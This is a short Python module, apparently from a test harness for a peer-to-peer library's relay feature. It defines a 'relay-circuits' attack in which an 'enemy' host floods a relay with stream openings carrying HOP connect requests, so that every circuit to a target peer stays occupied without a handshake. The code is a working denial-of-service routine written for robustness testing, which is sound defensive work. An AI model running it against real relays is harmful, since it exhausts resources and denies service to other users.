"""Circuits through a relay that is open to strangers."""

from __future__ import annotations

import trio

from lattica.nat.base.keys.identity import parse_peer_id
from lattica.nat.base.net.addresses import parse_multiaddr, split_peer
from lattica.nat.base.wire import encode_length_prefixed
from lattica.nat.traversal.relay.messages import HOP, Connect, encode
from tools.attack.attack import ENEMY_HOST, Attack, Victim
from tools.attack.stranger import answer_pings, attacking, propose, syn

CIRCUITS = 32


async def _circuits(victim: Victim) -> None:
    addr, _ = split_peer(parse_multiaddr(victim.tcp))
    request = encode_length_prefixed(encode(Connect(parse_peer_id(victim.target))))
    async with attacking(addr, source_ip=ENEMY_HOST) as enemy:
        await enemy.set_up()
        async with trio.open_nursery() as nursery:
            nursery.start_soon(answer_pings, enemy)
            for stream_id in range(1, 2**31, 2):
                await enemy.send_frames(syn(stream_id, propose(HOP) + request))
                await trio.sleep(0.01 if stream_id < 2 * CIRCUITS else 0.5)


TAKEN = Attack(
    "relay-circuits",
    "holds all circuits to a peer without a handshake",
    _circuits,
    seconds=15,
    relays=True,
    witness="calling",
)
